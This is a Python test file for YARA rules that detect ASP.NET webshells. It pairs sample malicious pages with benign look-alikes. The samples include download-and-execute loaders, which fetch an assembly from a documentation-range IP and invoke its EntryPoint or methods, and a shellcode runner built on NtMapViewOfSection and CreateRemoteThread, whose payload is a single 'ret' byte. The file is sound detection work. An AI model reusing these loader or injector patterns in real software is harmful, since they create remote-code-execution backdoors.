"""Rules from the fifty-first unseen collection: first-sight pages of OSEP/PEN-300 tool repositories and generators
(issue 14, helper X51).

Every runnable page of the collection was found on first sight. Two pages beside the set, which do not run as stored,
showed shapes our YARA rules did not know:

- a loader page keeps its download address in a variable, fetches the bytes with ``DownloadData(url)``, makes an
  assembly of them with ``AppDomain.CurrentDomain.Load`` and invokes its ``EntryPoint`` a statement later - found by
  nothing of ours (it reads no request input and declares no native function).
  ``EXT_WEBSHELL_Page_Runs_Fetched_Assembly`` (``data/rules/download_and_run.yar``) needs a fixed http(s) address in
  the page, bytes fetched (DownloadData, DownloadDataTaskAsync, GetByteArrayAsync), an assembly made from bytes
  (Assembly.Load, AppDomain.CurrentDomain.Load) and something of it run (EntryPoint, CreateInstance, or
  GetMethod(...).Invoke); its siblings with the bytes read from a WebRequest response stream, WebClient.OpenRead,
  DownloadString + FromBase64String or HttpClient.GetStreamAsync were found by nothing of ours after the first
  version of the rule either, and the rule takes them; an assembly loaded by name (``Assembly.Load("Some.Name")``)
  is not one made of fetched bytes;
- an injector template maps one section into the page's process and into the target (``NtMapViewOfSection``),
  copies the bytes into the first view and starts the second with ``CreateRemoteThread`` - no VirtualAlloc, so X19's
  ``EXT_WEBSHELL_Shellcode_Runner_Page`` (``data/rules/shellcode_runners.yar``) stayed silent; it now takes a mapped
  view as the memory, with a start, a copy and a native declaration still required.

The pages below are harmless files in those shapes, written here (nothing is compiled or run; no test sends a
request; the byte arrays are a single ``ret``), and none is a copy of a collected page. The ordinary pages are the
closest everyday ones: an update check that downloads a library to read its version and store it, a plug-in page
that loads its own assembly from bin, a rates feed and an image proxy that fetch bytes and call methods of their own
types, a feed page rendered by a widget from an assembly loaded by name, an RSS reader on a response stream; a page that shares memory through MemoryMappedFile and a worker thread, and a monitoring page that maps a
section a service publishes and reads it.
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, rule_tables, yara_rules

_FETCHED = "EXT_WEBSHELL_Page_Runs_Fetched_Assembly"
_RUNNER = "EXT_WEBSHELL_Shellcode_Runner_Page"

FETCHED_RUNNERS: list[Page] = [
    (
        "cs-url-variable-appdomain-entrypoint",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net" %>\n<%@ Import Namespace="System.Reflection" %>\n'
        '<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
        '    string where = "http://192.0.2.51:8000/part.bin";\n'
        "    byte[] got = new WebClient().DownloadData(where);\n"
        "    Assembly asm = AppDomain.CurrentDomain.Load(got);\n"
        "    MethodInfo start = asm.EntryPoint;\n"
        "    start.Invoke(null, new object[] { new string[0] });\n}\n</script>\n",
    ),
    (
        "cs-handler-bytearray-createinstance",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Fetch" %>\nusing System.Net.Http;\nusing System.Web;\n'
        "public class Fetch : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext ctx) {\n"
        '    byte[] b = new HttpClient().GetByteArrayAsync("https://192.0.2.51/m").Result;\n'
        '    System.Reflection.Assembly.Load(b).CreateInstance("M.Entry");\n'
        '    ctx.Response.Write("ok");\n  }\n}\n',
    ),
    (
        "vb-download-getmethod-invoke",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(sender As Object, e As EventArgs)\n"
        '    Dim src As String = "http://192.0.2.51/x.dat"\n'
        "    Dim wc As New System.Net.WebClient()\n"
        "    Dim d() As Byte = wc.DownloadData(src)\n"
        "    Dim a = System.Reflection.Assembly.Load(d)\n"
        '    a.GetType("X.Y").GetMethod("Go").Invoke(Nothing, Nothing)\nEnd Sub\n</script>\n',
    ),
]

# The loader's siblings in the other fetch spellings (session 22, after 1f7616b): each was found by nothing of ours
# on 1f7616b (the base64 one by the behaviour analysis only, ``assembly-bytes``).
FETCHED_SIBLINGS: list[Page] = [
    (
        "cs-webrequest-response-stream",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
        '    var req = System.Net.WebRequest.Create("http://192.0.2.51/a.bin");\n'
        "    using (var rs = req.GetResponse().GetResponseStream())\n"
        "    using (var ms = new System.IO.MemoryStream()) {\n        rs.CopyTo(ms);\n"
        "        var asm = System.Reflection.Assembly.Load(ms.ToArray());\n"
        "        asm.EntryPoint.Invoke(null, new object[] { new string[0] });\n    }\n}\n</script>\n",
    ),
    (
        "cs-downloadstring-base64",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
        '    string b64 = new System.Net.WebClient().DownloadString("https://192.0.2.51/p.txt");\n'
        "    var asm = System.Reflection.Assembly.Load(Convert.FromBase64String(b64));\n"
        '    asm.CreateInstance("P.Q");\n}\n</script>\n',
    ),
    (
        "cs-openread-appdomain",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
        '    string u = "http://192.0.2.51/m.dll";\n'
        "    using (var s = new System.Net.WebClient().OpenRead(u))\n"
        "    using (var ms = new System.IO.MemoryStream()) {\n        s.CopyTo(ms);\n"
        "        AppDomain.CurrentDomain.Load(ms.ToArray()).EntryPoint.Invoke(null, null);\n    }\n}\n</script>\n",
    ),
    (
        "cs-httpclient-stream-getmethod",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Http" %>\n<script runat="server">\n'
        "protected void Page_Load(object sender, EventArgs e)\n{\n    var hc = new HttpClient();\n"
        '    var st = hc.GetStreamAsync("https://192.0.2.51/lib").Result;\n'
        "    var ms = new System.IO.MemoryStream(); st.CopyTo(ms);\n"
        "    var a = System.Reflection.Assembly.Load(ms.ToArray());\n"
        '    a.GetType("L.M").GetMethod("Run").Invoke(null, null);\n}\n</script>\n',
    ),
]

FETCHED_ORDINARY: list[Page] = [
    (
        "update-check-reads-version",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
        "    var wc = new System.Net.WebClient();\n"
        '    byte[] lib = wc.DownloadData("https://updates.example.com/Reports.dll");\n'
        "    var v = System.Reflection.Assembly.Load(lib).GetName().Version;\n"
        '    System.IO.File.WriteAllBytes(Server.MapPath("~/App_Data/Reports-" + v + ".dll"), lib);\n'
        '    Response.Write("Downloaded version " + v);\n}\n</script>\n',
    ),
    (
        "plugin-from-bin",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n// plug-in guide: "https://docs.example.com/plugins"\n'
        "protected void Page_Load(object sender, EventArgs e)\n{\n"
        '    byte[] raw = System.IO.File.ReadAllBytes(Server.MapPath("~/bin/Plugins/Charts.dll"));\n'
        "    var asm = System.Reflection.Assembly.Load(raw);\n"
        '    var chart = asm.CreateInstance("Charts.Renderer");\n'
        "    Response.Write(chart.ToString());\n}\n</script>\n",
    ),
    (
        "rates-feed",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
        '    byte[] json = new System.Net.WebClient().DownloadData("https://rates.example.com/today.json");\n'
        "    string text = System.Text.Encoding.UTF8.GetString(json);\n"
        '    var fmt = typeof(Formatter).GetMethod("Pretty");\n'
        "    Response.Write(fmt.Invoke(null, new object[] { text }));\n}\n"
        "public static class Formatter { public static string Pretty(string s) { return s.Trim(); } }\n</script>\n",
    ),
    (
        "image-proxy",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Img" %>\nusing System.Web;\npublic class Img : IHttpHandler {\n'
        "  public bool IsReusable { get { return true; } }\n  public void ProcessRequest(HttpContext ctx) {\n"
        '    byte[] pic = new System.Net.Http.HttpClient().GetByteArrayAsync("https://cdn.example.com/logo.png").Result;\n'
        '    ctx.Response.ContentType = "image/png";\n    ctx.Response.BinaryWrite(pic);\n  }\n}\n',
    ),
    (
        "feed-widget-named-assembly",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
        '    string rss = new System.Net.Http.HttpClient().GetStringAsync("https://news.example.com/feed.xml").Result;\n'
        '    var widget = System.Reflection.Assembly.Load("Company.Widgets").CreateInstance("Company.Widgets.Feed");\n'
        '    widget.GetType().GetMethod("Render").Invoke(widget, new object[] { rss, Response.Output });\n}\n</script>\n',
    ),
    (
        "feed-reader-response-stream",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
        '    var req = System.Net.WebRequest.Create("https://status.example.com/rss");\n'
        "    using (var rs = req.GetResponse().GetResponseStream()) {\n"
        "        var doc = new System.Xml.XmlDocument(); doc.Load(rs);\n"
        '        Response.Write(Server.HtmlEncode(doc.SelectSingleNode("//title").InnerText));\n    }\n}\n</script>\n',
    ),
]

SECTION_RUNNERS: list[Page] = [
    (
        "cs-section-mapped-twice",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n'
        '<script runat="server">\n[DllImport("ntdll.dll")] static extern uint NtCreateSection(ref IntPtr h, uint a, '
        "IntPtr o, ref long size, uint prot, uint attr, IntPtr file);\n"
        '[DllImport("ntdll.dll")] static extern uint NtMapViewOfSection(IntPtr h, IntPtr proc, ref IntPtr at, '
        "IntPtr z, IntPtr c, ref long off, ref long size, uint inh, uint t, uint prot);\n"
        '[DllImport("kernel32.dll")] static extern IntPtr CreateRemoteThread(IntPtr p, IntPtr a, uint s, IntPtr start, '
        "IntPtr arg, uint f, IntPtr id);\n"
        "protected void Page_Load(object sender, EventArgs e)\n{\n"
        "    byte[] code = new byte[] { 0xC3 };\n    IntPtr sec = IntPtr.Zero, mine = IntPtr.Zero, theirs = IntPtr.Zero;\n"
        "    long size = code.Length, off = 0;\n"
        "    NtCreateSection(ref sec, 0xE, IntPtr.Zero, ref size, 0x40, 0x8000000, IntPtr.Zero);\n"
        "    IntPtr self = System.Diagnostics.Process.GetCurrentProcess().Handle;\n"
        "    NtMapViewOfSection(sec, self, ref mine, IntPtr.Zero, IntPtr.Zero, ref off, ref size, 2, 0, 0x04);\n"
        "    NtMapViewOfSection(sec, self, ref theirs, IntPtr.Zero, IntPtr.Zero, ref off, ref size, 2, 0, 0x20);\n"
        "    Marshal.Copy(code, 0, mine, code.Length);\n"
        "    CreateRemoteThread(self, IntPtr.Zero, 0, theirs, IntPtr.Zero, 0, IntPtr.Zero);\n}\n</script>\n",
    ),
    (
        "vb-zw-section",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        'Declare Function ZwMapViewOfSection Lib "ntdll.dll" (ByVal s As IntPtr, ByVal p As IntPtr, ByRef a As IntPtr, '
        "ByVal z As IntPtr, ByVal c As IntPtr, ByRef o As Long, ByRef n As Long, ByVal i As UInteger, ByVal t As UInteger, "
        "ByVal pr As UInteger) As UInteger\n"
        '<System.Runtime.InteropServices.DllImport("kernel32.dll")> Shared Function CreateRemoteThread(ByVal p As IntPtr, '
        "ByVal a As IntPtr, ByVal s As UInteger, ByVal st As IntPtr, ByVal g As IntPtr, ByVal f As UInteger, "
        "ByVal id As IntPtr) As IntPtr\nEnd Function\n"
        "Sub Page_Load(sender As Object, e As EventArgs)\n    Dim b() As Byte = {&HC3}\n"
        "    Dim view As IntPtr, h As IntPtr = IntPtr.Zero, o As Long = 0, n As Long = 1\n"
        "    ZwMapViewOfSection(h, New IntPtr(-1), view, IntPtr.Zero, IntPtr.Zero, o, n, 2, 0, &H40)\n"
        "    System.Runtime.InteropServices.Marshal.Copy(b, 0, view, b.Length)\n"
        "    CreateRemoteThread(New IntPtr(-1), IntPtr.Zero, 0, view, IntPtr.Zero, 0, IntPtr.Zero)\nEnd Sub\n</script>\n",
    ),
]

SECTION_ORDINARY: list[Page] = [
    (
        "memory-mapped-file-worker",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO.MemoryMappedFiles" %>\n<script runat="server">\n'
        "protected void Page_Load(object sender, EventArgs e)\n{\n"
        '    using (var mmf = MemoryMappedFile.CreateOrOpen("report-cache", 4096))\n'
        "    using (var view = mmf.CreateViewAccessor()) {\n"
        "        byte[] header = new byte[16];\n        view.ReadArray(0, header, 0, header.Length);\n"
        "        var t = new System.Threading.Thread(() => Summarise(header));\n        t.Start(); t.Join();\n    }\n}\n"
        "void Summarise(byte[] h) { Response.Write(BitConverter.ToString(h)); }\n</script>\n",
    ),
    (
        "monitor-reads-shared-section",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n'
        '<script runat="server">\n[DllImport("ntdll.dll")] static extern uint NtMapViewOfSection(IntPtr h, IntPtr proc, '
        "ref IntPtr at, IntPtr z, IntPtr c, ref long off, ref long size, uint inh, uint t, uint prot);\n"
        '[DllImport("kernel32.dll")] static extern IntPtr OpenFileMapping(uint access, bool inherit, string name);\n'
        "protected void Page_Load(object sender, EventArgs e)\n{\n"
        '    IntPtr sec = OpenFileMapping(4, false, "Global\\\\PerfCounters");\n'
        "    IntPtr at = IntPtr.Zero; long off = 0, size = 64;\n"
        "    NtMapViewOfSection(sec, System.Diagnostics.Process.GetCurrentProcess().Handle, ref at, IntPtr.Zero, "
        "IntPtr.Zero, ref off, ref size, 2, 0, 0x02);\n"
        "    byte[] counters = new byte[64];\n    Marshal.Copy(at, counters, 0, counters.Length);\n"
        "    Response.Write(BitConverter.ToInt64(counters, 0));\n}\n</script>\n",
    ),
]

CASES: list[RuleCase] = [
    (_FETCHED, [*FETCHED_RUNNERS, *FETCHED_SIBLINGS], FETCHED_ORDINARY),
    (_RUNNER, SECTION_RUNNERS, SECTION_ORDINARY),
]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)


def test_running_it_is_what_the_fetched_assembly_rule_needs(tmp_path: Path, params: content.ContentParams) -> None:
    """The same loader that only reads the downloaded assembly's name runs nothing of it: not named."""
    shell = FETCHED_RUNNERS[0][2]
    reads = shell.replace(
        "    MethodInfo start = asm.EntryPoint;\n    start.Invoke(null, new object[] { new string[0] });\n",
        "    Response.Write(asm.GetName().Name);\n",
    )
    assert reads != shell
    assert _FETCHED in yara_rules(tmp_path, "r.aspx", shell, params)
    assert _FETCHED not in yara_rules(tmp_path, "n.aspx", reads, params)


def test_mapped_view_still_needs_a_start(tmp_path: Path, params: content.ContentParams) -> None:
    """A mapped view written to, with no thread start declared or called, is no runner: the widened rule still
    wants the start."""
    shell = SECTION_RUNNERS[0][2]
    no_start = shell.replace(
        "    CreateRemoteThread(self, IntPtr.Zero, 0, theirs, IntPtr.Zero, 0, IntPtr.Zero);\n", ""
    ).replace(
        '[DllImport("kernel32.dll")] static extern IntPtr CreateRemoteThread(IntPtr p, IntPtr a, uint s, IntPtr start, '
        "IntPtr arg, uint f, IntPtr id);\n",
        "",
    )
    assert no_start != shell
    assert _RUNNER in yara_rules(tmp_path, "s.aspx", shell, params)
    assert _RUNNER not in yara_rules(tmp_path, "w.aspx", no_start, params)
